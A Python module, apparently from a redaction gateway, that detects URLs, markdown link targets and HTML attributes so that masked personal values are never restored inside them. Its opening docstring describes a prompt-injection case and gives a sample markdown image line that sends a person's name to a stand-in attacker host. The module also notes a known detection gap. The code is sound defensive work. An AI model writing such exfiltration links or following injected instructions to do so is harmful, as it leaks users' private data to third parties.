"""Places where no value may be put back: addresses, link targets, attributes of HTML elements.

An injected document can make a model write ``![](https://evil.example/?q=[PERSON_1])``; if the gateway put the name
in, the reader's browser would carry it out of the house. So restoration asks `Place.is_unsafe`, and redaction asks
`enclosing`: whatever is found inside such a place travels as *one* value with the whole address or tag, which stands
alone again when it comes back. Both sides use the same rules on this page, or the round trip would break.

Known weakness: an address that the model spreads over white space is not recognised; browsers do not follow it either.
"""

from __future__ import annotations

import re

import regex

_MARKS = ("//", ":/", "](", "www.", "mailto:", "data:")
_URLISH = re.compile(r"[a-z][a-z0-9+.\-]{1,20}:/|//|www\.|mailto:|data:|\]\(", re.IGNORECASE)
_BREAKS = "<>\"'„“”»«"
_BREAK = re.compile(rf"[\s{_BREAKS}]")
_ELEMENTS = ("a|abbr|area|audio|base|blockquote|body|button|div|embed|form|frame|iframe|image|img|input|ins|link|meta"
             "|object|p|param|script|source|span|style|svg|table|td|th|track|use|video")
_TAG = regex.compile(rf"<(?:{_ELEMENTS})(?=[\s/])(?:(?!\n\n)[^<>])*", regex.IGNORECASE)
_TAG_BEGINS = regex.compile(r"<[a-z]{0,10}", regex.IGNORECASE)
_LIMIT = 4096


def enclosing(text: str, start: int, end: int) -> tuple[int, int]:
    """Return the span that has to travel as one value so that what stands at ``start:end`` comes back.

    It is ``(start, end)`` itself unless that lies inside an address or a tag.
    """
    while True:
        wider = _in_address(text, *_in_tag(text, start, end))
        if wider == (start, end):
            return wider
        start, end = wider


def _in_tag(text: str, start: int, end: int) -> tuple[int, int]:
    tag = text.rfind("<", 0, start)
    match = _TAG.match(text, tag) if tag >= 0 else None
    if not match or match.end() < start or "=" not in text[tag:start]:
        return start, end
    return tag, max(end, match.end() + (text[match.end():match.end() + 1] == ">"))


def _in_address(text: str, start: int, end: int) -> tuple[int, int]:
    run = _run_start(text, start)
    if not _URLISH.search(text, run, start):
        return start, end
    after = _BREAK.search(text, end)
    return run, after.start() if after else len(text)


def _run_start(text: str, end: int) -> int:
    """Return where the run of unbroken characters that ends at `end` begins."""
    while end and not (text[end - 1].isspace() or text[end - 1] in _BREAKS):
        end -= 1
    return end


def is_harmless(text: str) -> bool:
    """Say quickly that `text` has no address and no tag at all, so that nobody need ask `enclosing`."""
    if "<" in text:
        return False
    low = text.lower()
    return not any(mark in low for mark in _MARKS)


class Place:
    """Where the answer stands: fed with what was shown, asked only where a placeholder is about to be replaced."""

    def __init__(self, *, json_string: bool = False) -> None:
        self._json = json_string
        self._shown: list[str] = []
        self._run = ""
        self._overlong = False
        self._tag = ""

    def shown(self, text: str) -> None:
        """Take note of `text`, which the reader sees next."""
        self._shown.append(text)

    def is_unsafe(self) -> bool:
        """Say whether a value inserted here would become part of an address, a link target or an attribute."""
        text = "".join(self._shown)
        self._shown.clear()
        if self._json:  # in the source text of JSON a line break is spelled out
            text = text.replace("\\n", "\n").replace("\\t", "\t").replace("\\r", "\r")
        self._advance_run(text)
        self._advance_tag(text)
        return self._overlong or bool(_URLISH.search(self._run)) or "=" in self._tag

    def _advance_run(self, text: str) -> None:
        run = _run_start(text, len(text))
        if run:
            self._run, self._overlong = text[run:], False
        else:
            self._run += text
        if len(self._run) > _LIMIT:  # nobody may push the beginning of an address out of our sight
            self._overlong = self._overlong or bool(_URLISH.search(self._run))
            self._run = self._run[-_LIMIT:]

    def _advance_tag(self, text: str) -> None:
        seen = self._tag + text
        start = seen.rfind("<")
        match = _TAG.match(seen, start) if start >= 0 else None
        undecided = start >= 0 and _TAG_BEGINS.fullmatch(seen, start)
        if undecided or (match and match.end() == len(seen)):
            tag = seen[start:]
            # Keep the head (which element) and whether an attribute began; the rest decides nothing.
            self._tag = tag if len(tag) <= _LIMIT else tag[:16] + (" =" if "=" in tag else " ") + tag[-1:]
        else:
            self._tag = ""
